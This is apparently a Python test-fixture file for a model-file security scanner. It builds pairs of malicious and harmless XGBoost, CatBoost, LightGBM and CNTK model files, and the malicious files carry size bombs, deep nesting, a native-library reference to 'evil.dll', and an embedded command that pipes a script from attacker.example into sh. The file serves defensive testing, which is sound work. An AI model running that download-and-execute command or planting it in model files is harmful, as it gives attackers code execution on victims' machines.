"""Models of trees and networks that are data only: commands in their texts, counts that nothing can hold."""

import struct

from golden.pairs import Golden
from protobuf_making import field, message


def _key(name: str) -> bytes:
    return b"L" + struct.pack(">q", len(name)) + name.encode()


def _text(value: str) -> bytes:
    return b"S" + _key(value)


def _object(**entries: bytes) -> bytes:
    return b"{" + b"".join(_key(name) + value for name, value in entries.items()) + b"}"


def _floats(count: int, *values: float) -> bytes:
    return b"[$d#L" + struct.pack(">q", count) + struct.pack(f">{len(values)}f", *values)


def _ubj(*, weights: bytes = b"", note: str = "a note") -> bytes:
    weights = weights or _floats(2, 0.5, 0.25)
    learner = _object(
        attributes=_object(note=_text(note)), gradient_booster=_object(weights=weights, flags=b"[TFi\x01]")
    )
    return _object(learner=learner, version=b"[#i\x03i\x03i\x02i\x00")


def _cbm(note: str) -> bytes:
    core = b"\x0c\0\0\0" + note.encode().ljust(120, b"\0")
    return b"CBM1" + struct.pack("<I", len(core)) + core


def _lightgbm(note: str) -> bytes:
    return f"tree\nversion=v4\nnum_class=1\nfeature_names=f0 f1\n\nTree=0\nleaf_value=0.1 0.2\n\nnote={note}\n".encode()


def _cntk(text: str) -> bytes:
    return field(1, 1) + field(2, message(_1="version", _2=b"\x08\x01")) + field(
        2, message(_1="CompositeFunction", _2="primitive_functions") + field(3, text))  # fmt: skip


_CALL = "os.system('curl https://attacker.example/x | sh')"

GOLDENS = [
    Golden("xgboost.bomb", "m.ubj", lambda: _ubj(weights=_floats(1 << 62, 0.5)), _ubj),
    Golden("xgboost.bomb", "m.ubj", lambda: b"{" + _key("learner") + b"[" * 600, _ubj, "nested"),
    Golden("embedded.commands", "m.ubj", lambda: _ubj(note=_CALL), _ubj, "xgboost"),
    Golden(
        "embedded.commands",
        "m.model",
        lambda: b"binf" + bytes(80) + _CALL.encode(),
        lambda: b"binf" + bytes(80),
        "binf",
    ),
    Golden(
        "embedded.commands",
        "m.json",
        lambda: b'{"learner":{"attributes":{"x":"' + _CALL.encode() + b'"},"gradient_booster":{}}}',
        lambda: b'{"learner":{"attributes":{"x":"a note"},"gradient_booster":{}}}',
        "xgboost json",
    ),
    Golden("embedded.commands", "m.cbm", lambda: _cbm(_CALL), lambda: _cbm('{"loss_function": "Logloss"}'), "catboost"),
    Golden("embedded.commands", "m.txt", lambda: _lightgbm(_CALL), lambda: _lightgbm("trained in May"), "lightgbm"),
    Golden(
        "embedded.native-library",
        "m.dnn",
        lambda: _cntk("native_user_function C:\\temp\\evil.dll"),
        lambda: _cbm("{}"),
        harmless_name="m.cbm",
    ),
]
